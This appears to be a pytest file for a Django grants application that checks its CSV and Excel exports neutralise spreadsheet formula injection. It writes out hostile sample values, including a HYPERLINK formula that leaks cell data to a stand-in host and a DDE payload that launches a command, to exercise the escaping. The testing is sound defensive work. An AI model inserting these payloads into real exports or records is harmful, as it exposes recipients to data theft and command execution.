"""Every CSV and Excel export the product writes neutralises text a spreadsheet would run.

Data with hostile names — an enterprise called ``=HYPERLINK(…)``, a legal representative
``+cmd|' /C calc'!A0``, a bank ``@SUM(1)``, a department ``-2+3`` and their tab, CR and
full-width variants — goes through the real services, then each export is opened as a
spreadsheet would open it: no cell of any workbook is a formula (each such text is a string
cell with Excel's quote prefix), no CSV field starts with a formula character (each has the
OWASP apostrophe), and amounts are still numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from policywindow.applications.models import Application
from policywindow.archives import package
from policywindow.archives import services as archives
from policywindow.core.spreadsheets import csv_bytes, csv_cell, runs_as_formula, workbook_bytes
from policywindow.enterprises import importing
from policywindow.enterprises.models import Enterprise
from policywindow.finance.services import payment_imports, submissions
from policywindow.fundforms import services as fundforms
from policywindow.policies.models import RuleVersion
from policywindow.reforms.models import ReformItem
from policywindow.system.models import Department
from policywindow.workflow.models import WorkflowTask
from tests.applications.test_intake_factories import reference_rows
from tests.archives.conftest import disburse
from tests.finance.payments import workbook as statement
from tests.fundforms.conftest import (  # noqa: F401  the fund-form fixtures
    _signing_key_in_scratch,
    make_approved,
    people,
    signing_dir,
)
from tests.reforms.conftest import options, org, programme, real_table, supervisor  # noqa: F401

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"点击查看")'
COMMAND = "+cmd|' /C calc'!A0"
AT = "@SUM(1)"
MINUS = "-2+3"
HOSTILE = (HYPERLINK, COMMAND, AT, MINUS, "\t=1+2", "\r=1+2", "＝1+2", "  =1+2")


# ---------------------------------------------------------------- the rule itself


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_recognised(text):
    assert runs_as_formula(text)
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["沈阳新松机器人", "-12.50", "+86", "2026-11-20", "", "a=b"])
def test_plain_text_and_plain_numbers_are_left_alone(text):
    assert not runs_as_formula(text) and csv_cell(text) == text


def test_a_workbook_keeps_numbers_and_makes_formula_text_a_string():
    book = Workbook()
    book.active.append([*HOSTILE, Decimal("-12.50"), -3, "-12.50"])
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
    cells = list(sheet[1])
    for cell, text in zip(cells, HOSTILE, strict=False):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    amount, negative, typed = cells[len(HOSTILE) :]
    assert (amount.value, amount.data_type) == (-12.5, "n")
    assert (negative.value, negative.data_type) == (-3, "n")
    assert (typed.value, typed.data_type) == ("-12.50", "s")


def test_csv_keeps_numbers_and_prefixes_formula_text():
    data = csv_bytes(["名称", "金额"], [[HYPERLINK, Decimal("-5.00")], [MINUS, "300000.00"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["名称", "金额"], [f"'{HYPERLINK}", "-5.00"], [f"'{MINUS}", "300000.00"]]


# ---------------------------------------------------------------- what the exports hold


def neutral_workbook(data: bytes) -> set[str]:
    """Every formula-like text of the workbook, after checking none of them is a formula."""
    book = load_workbook(io.BytesIO(data))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and runs_as_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.value)
                    found.add(cell.value)
    return found


def neutral_csv(data: bytes) -> set[str]:
    """Every field of the CSV, after checking that none starts like a formula."""
    fields = {f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row}
    assert not [f for f in fields if runs_as_formula(f)]
    return fields


def numbers(data: bytes, sheet: str, column: int) -> list:
    rows = load_workbook(io.BytesIO(data))[sheet].iter_rows(min_col=column, max_col=column)
    return [row[0].value for row in rows if isinstance(row[0].value, int | float)]


@pytest.fixture
def hostile_cases(make_approved, people) -> list[Application]:  # noqa: F811
    """Two approved cases whose enterprise, legal representative and bank are hostile, led by
    a department named ``-2+3`` under a rule titled ``=HYPERLINK(…)``."""
    cases = []
    for name, legal, bank in ((HYPERLINK, COMMAND, AT), ("\t=1+2", "＝1+2", "\r=1+2")):
        case = make_approved(name)
        Enterprise.objects.filter(pk=case.enterprise_id).update(
            legal_representative=legal, bank_name=bank
        )
        cases.append(case)
    Department.objects.filter(pk=people["tech"].pk).update(name=MINUS)
    RuleVersion.objects.filter(rule__applications__in=cases).update(title=HYPERLINK)
    WorkflowTask.objects.filter(application=cases[0], assignee=people["c"]).update(opinion=AT)
    return cases


@pytest.fixture
def batch(hostile_cases, people):  # noqa: F811
    return fundforms.issue_batch(people["admin"], [case.pk for case in hostile_cases])


def test_the_fund_form_batch_sheet(batch, people, login):  # noqa: F811
    response = login(people["admin"]).get(reverse("fundforms:batch_xlsx", args=[batch.pk]))
    found = neutral_workbook(response.content)
    assert {HYPERLINK, COMMAND, AT, "\t=1+2", "＝1+2", "\r=1+2"} <= found
    assert numbers(response.content, "汇总表", 12) == [300000, 300000, 600000]


def test_the_payment_instructions_csv(batch, people, login):  # noqa: F811
    submissions.submit(people["admin"], batch.pk)
    url = reverse("finance:submission_instructions_csv", args=[batch.pk])
    fields = neutral_csv(login(people["admin"]).get(url).content)
    assert {f"'{HYPERLINK}", f"'{AT}", "'\t=1+2", "'\r=1+2"} <= fields
    assert "300000.00" in fields


def test_the_reconciliation_report(batch, people, login):  # noqa: F811
    submission = submissions.submit(people["admin"], batch.pk)
    finance = people["finance_officer"]
    submissions.receive(finance, submission.pk)
    first, second = batch.forms.order_by("sequence")
    rows = [  # (openpyxl would write a text starting with "=" as a formula: no such payee here)
        (first.number, "", "\t=1+2", 300000, "2026-11-20", COMMAND),
        (second.number, "", MINUS, 1, "2026-11-20", AT),
    ]
    item = payment_imports.upload(finance, "回单.xlsx", statement(rows))
    response = login(finance).get(reverse("finance:import_report", args=[item.pk]))
    assert {"=1+2", COMMAND, MINUS, AT} <= neutral_workbook(response.content)  # stripped on import
    assert numbers(response.content, "核对报告", 5) == [300000, 1]


def test_the_archive_csvs(hostile_cases, people):  # noqa: F811
    case = hostile_cases[0]
    fundforms.issue_batch(people["admin"], [case.pk])
    disburse(case, people["finance_officer"])
    archive = archives.archive_case(people["admin"], case.pk)
    with archive.file.open("rb") as handle, zipfile.ZipFile(handle) as zipped:
        opinions = neutral_csv(zipped.read(package.OPINIONS_NAME))
        timeline = neutral_csv(zipped.read(package.TIMELINE_NAME))
    assert {f"'{MINUS}", f"'{AT}", "300000.00"} <= opinions
    assert timeline


def test_the_dashboard_workbook(hostile_cases, people, login):  # noqa: F811
    response = login(people["admin"]).get(
        reverse("dashboard:export"), {"start": "2020-01-01", "end": "2030-12-31"}
    )
    assert response.status_code == 200
    assert {HYPERLINK, MINUS} <= neutral_workbook(response.content)


class TestReformWorkbook:
    @pytest.fixture
    def department(self, org):  # noqa: F811
        """As in tests/reforms: users default to the demo's 省营商局 (names stay unique)."""
        return org["YSJ"]

    def test_the_reform_workbook(self, programme, supervisor, org, login):  # noqa: F811
        ReformItem.objects.filter(programme=programme, number=1).update(title=HYPERLINK)
        Department.objects.filter(pk=org["DLHG"].pk).update(name=COMMAND)
        response = login(supervisor).get(reverse("reforms:programme_export"))
        assert {HYPERLINK, COMMAND} <= neutral_workbook(response.content)


def test_the_enterprise_import_template():
    industry, region = reference_rows()
    industry.name, region.name = AT, MINUS
    industry.save()
    region.save()
    assert {AT, MINUS} <= neutral_workbook(importing.template_workbook())
